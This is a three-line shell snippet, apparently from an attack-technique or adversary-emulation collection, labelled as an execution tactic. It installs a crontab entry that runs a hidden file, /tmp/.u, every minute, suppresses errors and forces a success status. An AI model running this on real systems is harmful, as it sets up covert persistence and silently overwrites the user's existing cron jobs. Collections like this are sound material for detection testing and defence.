# tactic: execution
# install a crontab that runs a command every minute
echo "* * * * * /tmp/.u" | crontab - 2>/dev/null; true
